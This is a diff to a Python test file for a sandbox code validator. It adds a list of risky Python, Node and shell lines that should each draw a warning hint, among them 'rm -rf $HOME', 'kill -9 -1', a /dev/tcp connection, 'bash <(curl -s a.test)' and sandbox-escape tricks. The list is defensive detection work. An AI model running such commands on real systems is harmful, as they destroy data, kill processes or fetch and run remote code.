@@ -110,6 +110,50 @@ async def test_what_may_do_harm_is_a_hint_and_decides_nothing(
     assert (validation.valid, validation.verdict) == (True, "pass")
 
 
+WARNED = {
+    "python": (
+        '__import__("os").system("x")', 'getattr(__builtins__, "ev" + "al")', "().__class__.__base__.__subclasses__()",
+        "import ctypes", "from ctypes import CDLL", "import socket; socket.socket()", "import os; os.remove('a')",
+        "from os import unlink; unlink('a')", "import shutil as s; s.rmtree('a')",
+        "import pathlib as p; p.Path('a').unlink()",
+        "eval(x)", "exec(x)", "import os; os.kill(1, 9)", "import os; os.chmod('a', 0o777)",
+        "import importlib; importlib.import_module(x)", "import os; os.fork()", "import os; os._exit(1)",
+    ),
+    "node": (
+        "require('child_process')", "import 'node:child_process'", "process.exit(1)", "process.kill(1)",
+        "require('net')",
+        "fs.rm('a', f)", "fs.unlinkSync('a')", "const { rmSync } = f; rmSync('a')", "Function('x')", "eval(x)",
+        "require('vm')", "fs.chmodSync('a', 0o777)",
+    ),
+    "shell": (
+        "sh -c 'ls'", "bash -xc ls", "nc -l 80", "cat < /dev/tcp/1.2.3.4/80", "kill -9 -1", "kill -- -1", "pkill x",
+        "crontab -r", "chmod 777 a", "chmod -R a+rwx a", "rm -rf ../a", "rm -rf /etc", "rm -r ~/a", "rm -rf $HOME",
+        "find . -delete", "eval $x", "bash <(curl -s a.test)",
+    ),
+}  # fmt: skip
+PLAIN = {
+    "python": "import os, subprocess, pathlib\nos.chmod('a', 0o644)\nsubprocess.run(['ls'])\n",
+    "node": "set.delete(1); fs.chmodSync('a', 0o755); const evaluate = (x) => x; process.exitCode = 1;\n",
+    "shell": "rm -rf build\nrm -rf /workspace/a\nrm a\nkill $pid\nchmod +x a\nchmod 755 a\nsh a.sh\n",
+}
+
+
+@pytest.mark.parametrize("language", ["python", "shell", pytest.param("node", marks=NODE)])
+async def test_each_line_of_the_check_list_has_a_hint_and_its_harmless_neighbours_have_none(
+    sandbox: Sandbox, language: str
+) -> None:
+    lines = WARNED[language]
+    validation = await sandbox.validate("\n".join(lines) + "\n", language, session=True)
+    assert {issue.line for issue in validation.issues if issue.severity == "hint"} == {*range(1, len(lines) + 1)}
+    assert validation.valid
+    assert codes(await sandbox.validate(PLAIN[language], language), "hint") == set()
+
+
+async def test_the_programs_of_the_examples_have_no_hint(sandbox: Sandbox) -> None:
+    for path in sorted((GUEST.parents[2] / "examples").glob("*.py")):
+        assert codes(await sandbox.validate(path.read_text(), session=True), "hint") == set(), path.name
+
+
 async def test_names_in_texts_and_other_modules_are_no_hints_in_python(sandbox: Sandbox) -> None:
     code = "text = 'os.system(1)'\nimport mine\nmine.eval('1')\nre_eval = 1\n"
     assert codes(await sandbox.validate(code), "hint") == set()
